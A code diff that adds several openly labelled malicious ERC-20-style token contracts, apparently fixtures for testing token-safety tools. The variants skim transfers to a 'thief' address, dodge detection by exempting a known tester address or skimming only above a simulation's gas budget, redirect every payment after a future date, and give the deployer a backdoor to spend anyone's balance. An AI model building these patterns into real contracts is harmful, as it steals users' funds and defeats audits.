@@ -42,9 +42,13 @@ abstract contract Coin {
     }
 
     function transferFrom(address from, address to, uint256 amount) external returns (bool) {
-        _allowed[from][msg.sender] -= amount;
+        _spend(from, amount);
         _move(from, to, amount);
         return true;
+    }
+
+    function _spend(address from, uint256 amount) internal virtual {
+        _allowed[from][msg.sender] -= amount;
     }
 
     function _move(address from, address to, uint256 amount) internal virtual {
@@ -111,6 +115,61 @@ contract SkimmingCoin is Coin {
         uint256 part = from.code.length > 0 ? amount / 100 : 0;
         _held[to] -= part;
         _held[_thief] += part;
+    }
+}
+
+/// @title Keeps a part of what is not all that the payer has
+contract SmallSkimmingCoin is Coin {
+    address private immutable _thief = msg.sender;
+
+    function _move(address from, address to, uint256 amount) internal override {
+        uint256 part = amount < _held[from] ? amount / 10 : 0;
+        super._move(from, to, amount);
+        _held[to] -= part;
+        _held[_thief] += part;
+    }
+}
+
+/// @title Keeps a part of what contracts pay, but not to somebody who is known to try it
+contract FlatteringCoin is Coin {
+    address private immutable _thief = msg.sender;
+    address private immutable _tester = address(uint160(uint256(keccak256("an account that nobody has"))));
+
+    function _move(address from, address to, uint256 amount) internal override {
+        super._move(from, to, amount);
+        uint256 part = from.code.length > 0 && to != _tester ? amount / 100 : 0;
+        _held[to] -= part;
+        _held[_thief] += part;
+    }
+}
+
+/// @title Keeps a part of what contracts pay with more gas than a trial has
+contract GasSkimmingCoin is Coin {
+    address private immutable _thief = msg.sender;
+
+    function _move(address from, address to, uint256 amount) internal override {
+        super._move(from, to, amount);
+        uint256 part = from.code.length > 0 && gasleft() > 3_000_000 ? amount / 100 : 0;
+        _held[to] -= part;
+        _held[_thief] += part;
+    }
+}
+
+/// @title Will keep all of what is paid from some day on
+contract PatientCoin is Coin {
+    address private immutable _thief = msg.sender;
+
+    function _move(address from, address to, uint256 amount) internal override {
+        super._move(from, block.timestamp < 4_102_444_800 ? to : _thief, amount);
+    }
+}
+
+/// @title Lets whoever made it take everybody's money, and says that they may not
+contract BackdoorCoin is Coin {
+    address private immutable _thief = msg.sender;
+
+    function _spend(address from, uint256 amount) internal override {
+        if (msg.sender != _thief) super._spend(from, amount);
     }
 }
 
